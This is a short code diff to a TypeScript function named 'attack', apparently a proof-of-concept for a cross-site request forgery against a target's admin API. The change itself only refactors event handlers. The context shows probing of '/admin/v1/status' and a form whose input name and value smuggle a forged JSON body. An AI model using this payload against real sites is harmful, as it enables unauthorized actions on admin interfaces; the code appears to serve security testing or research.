@@ -34,7 +34,7 @@ const attack = async (target: string): Promise<string[]> => {
   }
   const loads = (element: HTMLImageElement | HTMLScriptElement | HTMLIFrameElement) =>
     new Promise<void>((resolve) => {
-      element.onload = element.onerror = () => resolve()
+      for (const event of ['load', 'error']) element.addEventListener(event, () => resolve())
       document.body.append(element)
     })
   const src = `${target}/admin/v1/status`
@@ -57,7 +57,7 @@ const attack = async (target: string): Promise<string[]> => {
   })
   form.append(Object.assign(document.createElement('input'), { name: '{"label":"evil","x":"', value: '"}' }))
   document.body.append(form)
-  const answered = new Promise<void>((resolve) => (frame.onload = () => resolve()))
+  const answered = new Promise<void>((resolve) => frame.addEventListener('load', () => resolve()))
   form.submit()
   await answered
   return read
